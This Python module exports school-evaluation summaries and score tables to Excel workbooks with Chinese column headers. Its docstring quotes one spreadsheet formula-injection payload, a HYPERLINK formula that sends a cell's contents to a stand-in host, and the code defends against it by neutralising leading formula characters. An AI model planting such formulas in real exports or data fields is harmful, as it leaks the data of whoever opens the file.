"""Excel versions of the summary tables (pandas + openpyxl), safe to open.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and tab
or CR can smuggle one in): a school name like ``=HYPERLINK("http://x/?"&A1)`` would run when a
bureau officer opens the export. Every string — cells, headers and sheet names — that starts
with one of those characters is written as text with a leading ``'``; numbers stay numbers.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import pandas as pd
from openpyxl.utils import get_column_letter

from checklist.model import Rubric
from checklist.scoring import STATUS_LABELS, Status
from reports.model import ItemScore, RegionReport, SchoolResult, ScoreRow
from reports.workbooks import Sheet, neutralise, workbook_bytes

_STATUS_LABEL = {status.value: label for status, label in STATUS_LABELS.items()}


def _frame(rows: Sequence[Sequence[Any]], columns: Sequence[str]) -> pd.DataFrame:
    safe_rows = [[neutralise(v) for v in row] for row in rows]
    return pd.DataFrame(safe_rows, columns=[str(neutralise(c)) for c in columns], dtype=object)


def _write(sheets: Sequence[tuple[str, pd.DataFrame]]) -> bytes:
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets:
            sheet_name = str(neutralise(name))[:31]
            frame.to_excel(writer, sheet_name=sheet_name, index=False)
            sheet = writer.sheets[sheet_name]
            sheet.freeze_panes = "A2"
            for index, column in enumerate(frame.columns, start=1):
                values = [str(column), *(str(v) for v in frame.iloc[:, index - 1] if v is not None)]
                width = max((_display_width(v) for v in values[:200]), default=8)
                sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 6), 60)
    return buffer.getvalue()


def _display_width(text: str) -> int:
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)


def region_workbook(report: RegionReport) -> bytes:
    """The region summary's tables as an .xlsx file (bytes)."""
    overview = _frame(
        [
            ("区域", report.region),
            ("评估周期", report.meta.cycle),
            ("评估细则", f"{report.rubric_title}（{report.rubric_label}）"),
            ("参评学校数", report.expected),
            ("纳入汇总学校数", report.school_count),
            ("平均分", report.average),
            ("中位数", report.median),
            ("一票否决学校数", len(report.veto_schools)),
            ("报告日期", report.meta.date),
        ],
        ["项目", "内容"],
    )
    levels = _frame(
        [(lc.level, lc.count, lc.share) for lc in report.level_counts],
        ["等级", "学校数", "占比（%）"],
    )
    ranking = _frame(
        [
            (r.rank, r.name, r.code, r.district, r.total, r.level, "是" if r.veto_failed else "否")
            for r in report.ranking
        ],
        ["名次", "学校名称", "学校代码", "区县", "总分", "等级", "一票否决"],
    )
    district_names = [d.district for d in report.districts]
    dimensions = _frame(
        [(d.id, d.title, d.average, d.schools, *d.by_district) for d in report.dimensions],
        ["编号", "一级指标", "平均得分率（%）", "参评学校数", *district_names],
    )
    item_columns = [
        "编号",
        "评估要点",
        "一级指标",
        "达标",
        "部分达标",
        "未达标",
        "不适用",
        "未填报",
        "达标率（%）",
        "一票否决项",
        "加分项",
    ]
    items = _frame([_item_row(c) for c in report.items], item_columns)
    problems = _frame([_item_row(c) for c in report.common_problems], item_columns)
    districts = _frame(
        [(d.district, d.schools, d.average, *d.levels, d.veto_failed, d.compliance) for d in report.districts],
        ["区县", "学校数", "平均分", *report.levels, "一票否决", "要点达标率（%）"],
    )
    sheets = [
        ("总体情况", overview),
        ("等级分布", levels),
        ("学校排名", ranking),
        ("一级指标", dimensions),
        ("要点达标率", items),
        ("突出问题", problems),
        ("区县情况", districts),
    ]
    if report.missing:
        sheets.append(
            (
                "未纳入汇总",
                _frame([(m.name, m.district, m.reason) for m in report.missing], ["学校名称", "区县", "原因"]),
            )
        )
    if report.rectification is not None:
        counts = [*report.rectification.districts, report.rectification.total]
        sheets.append(
            (
                "整改情况",
                _frame(
                    [
                        (c.district, c.schools, c.total, c.open, c.overdue, c.reported, c.passed, c.failed)
                        for c in counts
                    ],
                    ["区县", "学校数", "整改任务", "整改中", "其中逾期", "已报待复查", "复查通过", "复查未通过"],
                ),
            )
        )
    return _write(sheets)


def _item_row(c: Any) -> tuple[Any, ...]:
    return (
        c.item_id,
        c.title,
        c.dimension,
        c.met,
        c.partial,
        c.not_met,
        c.not_applicable,
        c.unanswered,
        c.rate,
        "是" if c.veto else "",
        "是" if c.bonus else "",
    )


def scores_workbook(rubric: Rubric, rows: Sequence[ScoreRow], about: Sequence[tuple[str, Any]] = ()) -> bytes:
    """The score table (学校得分), the one workbook of scores the project writes — from the web,
    a background job and the command line alike: a line per school with its self and verified
    totals, levels and veto, and every item's result; the points of every item; the items
    themselves; and what the figures mean (``about`` adds lines: the cycle, the scope)."""
    items = rubric.items
    header = [
        "学校代码",
        "学校名称",
        "所属区县",
        "学段",
        "状态",
        "自评得分",
        "自评等级",
        "自评一票否决",
        "核定得分",
        "核定等级",
        "核定一票否决",
    ]
    points_header = ["学校代码", "学校名称"]
    for item in items:
        header += [f"{item.id} 自评", f"{item.id} 核定"]
        points_header += [f"{item.id} 自评得分", f"{item.id} 核定得分"]

    def lines() -> Iterable[list[Any]]:
        for row in rows:
            verified = row.verified_items is not None
            line: list[Any] = [
                row.code,
                row.name,
                row.district,
                row.stages,
                row.status,
                row.self_total,
                row.self_level,
                "是" if row.self_veto else "否",
                row.verified_total if verified else None,
                row.verified_level if verified else "",
                ("是" if row.verified_veto else "否") if verified else "",
            ]
            for item in items:
                line += [_status_of(row.self_items, item.id), _status_of(row.verified_items, item.id)]
            yield line

    def points() -> Iterable[list[Any]]:
        for row in rows:
            line: list[Any] = [row.code, row.name]
            for item in items:
                line += [_points_of(row.self_items, item.id), _points_of(row.verified_items, item.id)]
            yield line

    item_rows = []
    for item in items:
        dimension, indicator = rubric.place_of(item.id)
        item_rows.append(
            [
                item.id,
                dimension.title,
                indicator.title,
                item.title,
                item.points,
                "是" if item.veto else "",
                "是" if item.bonus else "",
            ]
        )
    notes: list[list[Any]] = [
        ["评估细则", f"{rubric.title}（{rubric.id} 第{rubric.version}版）"],
        *([label, value] for label, value in about),
        ["学校数", len(rows)],
        ["说明", "“自评”为学校自评结果，“核定”为督学核定结果（尚未核定的为空）；得分为百分制，含加分。"],
        *([s.label, _legend(s)] for s in Status),
    ]
    return workbook_bytes(
        [
            Sheet("学校得分", header, lines(), widths=(14, 30, 12, 14, 10, 10, 10, 12, 10, 10, 12)),
            Sheet("要点得分", points_header, points(), widths=(14, 30)),
            Sheet(
                "评估要点",
                ["编号", "一级指标", "二级指标", "评估要点", "分值", "一票否决", "加分项"],
                item_rows,
                widths=(10, 18, 18, 50, 8, 10, 8),
            ),
            Sheet("说明", ["项目", "内容"], notes, widths=(14, 80)),
        ]
    )


def _status_of(items: Mapping[str, ItemScore] | None, item_id: str) -> str:
    if items is None:
        return ""
    entry = items.get(item_id)
    return _STATUS_LABEL.get(entry.status if entry else Status.UNANSWERED.value, "")


def _points_of(items: Mapping[str, ItemScore] | None, item_id: str) -> float | None:
    entry = items.get(item_id) if items is not None else None
    if entry is None or entry.status == Status.NOT_APPLICABLE.value:
        return None
    return entry.earned


def score_rows(results: Iterable[SchoolResult]) -> list[ScoreRow]:
    """Score-table lines from region results (files, no database): each school's self or
    verified figures, as its results say, without points."""
    rows = []
    for school in results:
        items = {item_id: ItemScore(status, None) for item_id, status in school.items}
        verified = school.stage == "核定"
        rows.append(
            ScoreRow(
                code=school.code,
                name=school.name,
                district=school.district,
                stages="",
                status="已核定" if verified else "",
                self_total=None if verified else school.total,
                self_level="" if verified else school.level,
                self_veto=False if verified else school.veto_failed,
                self_items={} if verified else items,
                verified_total=school.total if verified else None,
                verified_level=school.level if verified else "",
                verified_veto=school.veto_failed if verified else False,
                verified_items=items if verified else None,
            )
        )
    return rows


def _legend(status: Status) -> str:
    return {
        Status.MET: "达到要求，得满分",
        Status.PARTIAL: "接近要求，按比例或档次得部分分",
        Status.NOT_MET: "未达到要求，不得分",
        Status.NOT_APPLICABLE: "本项不适用于该校，不计分",
        Status.UNANSWERED: "学校尚未填报",
    }[status]
